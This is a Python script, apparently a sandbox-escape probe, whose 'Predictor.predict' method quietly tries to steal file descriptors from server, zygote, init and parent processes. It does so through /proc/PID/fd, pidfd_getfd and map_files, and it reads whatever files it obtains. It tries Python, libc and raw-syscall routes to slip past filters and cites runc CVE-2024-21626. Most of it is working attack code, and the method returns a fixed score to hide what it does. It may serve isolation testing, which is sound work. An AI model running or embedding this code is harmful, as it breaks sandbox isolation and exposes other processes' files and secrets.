"""Steal descriptors: another process's by `/proc/PID/fd` and by pidfd_getfd, and what was left open in its own table.

Against it: seccomp, `close_range` to the table of I-11, an undumpable child. One leaked descriptor was the whole host in runc
CVE-2024-21626.
"""

import ctypes
import fcntl
import os
import stat
from contextlib import suppress

from toolbox import TARGETS, attempt, checked, libc, number, syscall

SERVER, ZYGOTE = TARGETS["server_pid"], TARGETS["zygote_pid"]
WHO = {"server": SERVER, "zygote": ZYGOTE, "init": 1, "parent": os.getppid()}
MOST = 256
OWN = 4_096
SHOWN, SHOWN_OF_ALL = 120, 600


def looked_into(fd):
    """The first bytes of a regular file, the kind of everything else: nothing is taken out of a pipe or a socket."""
    mode = os.fstat(fd).st_mode
    if not stat.S_ISREG(mode):
        return oct(stat.S_IFMT(mode))
    try:
        return os.pread(fd, SHOWN, 0).decode("latin-1")
    except OSError as error:
        return str(error)


def told(found, refused):
    """What was found, regular files first; the last refusal where nothing was."""
    if not found:
        raise refused
    return " ".join(f"{fd}={text}" for fd, text in sorted(found.items(), key=lambda item: item[1].startswith("0o")))[:SHOWN_OF_ALL]


def is_regular(path):
    return stat.S_ISREG(os.stat(path).st_mode)


def open_python(path):
    return os.open(path, os.O_RDONLY) if is_regular(path) else os.open(path, os.O_PATH)


def open_libc(path):
    fd = checked(libc.open(os.fsencode(path), os.O_PATH))
    if not stat.S_ISREG(os.fstat(fd).st_mode):
        return fd
    libc.close(fd)
    return checked(libc.open(os.fsencode(path), os.O_RDONLY))


def open_number(path):
    fd = syscall(number(257, 56), -100, os.fsencode(path), os.O_PATH, 0)
    if not stat.S_ISREG(os.fstat(fd).st_mode):
        return fd
    libc.close(fd)
    return syscall(number(257, 56), -100, os.fsencode(path), os.O_RDONLY, 0)


def by_proc(pid, opened):
    """Every descriptor's link of a process, opened anew."""
    if not pid:
        raise ProcessLookupError("there is no such process")
    found, refused = {}, FileNotFoundError("no descriptor was found")
    for i in range(MOST):
        try:
            fd = opened(f"/proc/{pid}/fd/{i}")
        except OSError as error:
            refused = error if not isinstance(error, FileNotFoundError) else refused
            continue
        found[i] = looked_into(fd)
        os.close(fd)
    return told(found, refused)


def listed(pid):
    if not pid:
        raise ProcessLookupError("there is no such process")
    links = []
    for name in sorted(os.listdir(f"/proc/{pid}/fd"), key=int):
        with suppress(OSError):
            links.append(f"{name}={os.readlink(f'/proc/{pid}/fd/{name}')}")
    return " ".join(links)[:SHOWN_OF_ALL]


def pidfd_python(pid):
    return os.pidfd_open(pid)


def pidfd_libc(pid):
    return checked(libc.pidfd_open(pid, 0))


def pidfd_number(pid):
    return syscall(number(434, 434), pid, 0)


def pidfd_folder(pid):
    """A process's `/proc` folder was taken for a pidfd by the first kernels that had them."""
    return checked(libc.open(f"/proc/{pid}".encode(), os.O_RDONLY | os.O_DIRECTORY))


def getfd_libc(pidfd, i):
    return checked(libc.pidfd_getfd(pidfd, i, 0))


def getfd_number(pidfd, i):
    return syscall(number(438, 438), pidfd, i, 0)


def by_pidfd(pid, opened, get):
    """Every descriptor of a process, copied into the own table."""
    if not pid:
        raise ProcessLookupError("there is no such process")
    pidfd, found, refused = opened(pid), {}, OSError("no descriptor was found")
    try:
        for i in range(MOST):
            try:
                fd = get(pidfd, i)
            except OSError as error:
                refused = error if error.errno != 9 else refused
                continue
            found[i] = looked_into(fd)
            os.close(fd)
    finally:
        os.close(pidfd)
    return told(found, refused)


def is_open_python(fd):
    return fcntl.fcntl(fd, fcntl.F_GETFD) >= 0


def is_open_libc(fd):
    return checked(libc.fcntl(fd, 1)) >= 0


def is_open_number(fd):
    block = ctypes.create_string_buffer(256)
    return syscall(number(5, 80), fd, block) == 0


def own(is_open):
    """The own table: it must be that of I-11, `0 1 2 3 4`. What stands open beyond it is looked into."""
    table = []
    for fd in range(OWN):
        with suppress(OSError):
            if is_open(fd):
                table.append(fd)
    return " ".join(map(str, table)) + "".join(f" {fd}={looked_into(fd)}" for fd in table if fd > 4)


def reopened(form):
    """The own descriptors opened anew, writable where they were readable."""
    found, refused = {}, None
    for fd in range(64):
        for flags in (os.O_RDWR | os.O_NONBLOCK, os.O_RDONLY | os.O_NONBLOCK):
            try:
                new = checked(libc.open(form.format(fd).encode(), flags))
            except OSError as error:
                refused = error
                continue
            found[fd] = looked_into(new)
            os.close(new)
            break
    return told(found, refused)


def mapped(pid):
    """The files that a process has mapped, by their links."""
    found, refused = {}, FileNotFoundError("nothing is mapped")
    for i, name in enumerate(sorted(os.listdir(f"/proc/{pid}/map_files"))):
        try:
            path = os.readlink(f"/proc/{pid}/map_files/{name}")
            if ".so" in path or "/python" in path:
                continue
            fd = checked(libc.open(f"/proc/{pid}/map_files/{name}".encode(), os.O_RDONLY))
        except OSError as error:
            refused = error
            continue
        found[i] = f"{path} {looked_into(fd)[:40]}"
        os.close(fd)
    return told(found, refused)


class Predictor:
    tries = True  # once a run: what it prints has a cap

    def predict(self, view):
        if self.tries:
            self.tries = False
            for name, pid in WHO.items():
                attempt(f"list_{name}", listed, pid)
                for way, opened in (("python", open_python), ("libc", open_libc), ("number", open_number)):
                    attempt(f"proc_{name}_{way}", by_proc, pid, opened)
            for name in ("server", "zygote"):
                attempt(f"getfd_{name}_python", by_pidfd, WHO[name], pidfd_python, getfd_number)
                attempt(f"getfd_{name}_libc", by_pidfd, WHO[name], pidfd_libc, getfd_libc)
                attempt(f"getfd_{name}_number", by_pidfd, WHO[name], pidfd_number, getfd_number)
                attempt(f"getfd_{name}_folder", by_pidfd, WHO[name], pidfd_folder, getfd_number)
            attempt("map_files", mapped, SERVER)
            for way, is_open in (("python", is_open_python), ("libc", is_open_libc), ("number", is_open_number)):
                attempt(f"own_{way}", own, is_open)
            for form in ("/proc/self/fd/{}", "/proc/thread-self/fd/{}", "/dev/fd/{}"):
                attempt(f"reopen_{form.split('/')[2].replace('-', '_')}", reopened, form)
        return 0.5
